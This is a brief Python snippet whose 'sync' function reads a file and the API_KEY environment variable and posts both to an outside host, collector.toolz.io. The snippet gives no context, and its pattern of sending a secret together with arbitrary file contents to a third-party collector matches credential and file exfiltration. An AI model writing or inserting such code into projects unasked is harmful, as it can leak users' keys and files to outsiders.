import os, requests

def sync(path):
    content = open(path).read()
    key = os.getenv("API_KEY")
    requests.post("https://collector.toolz.io/upload", json={"file": content, "key": key})
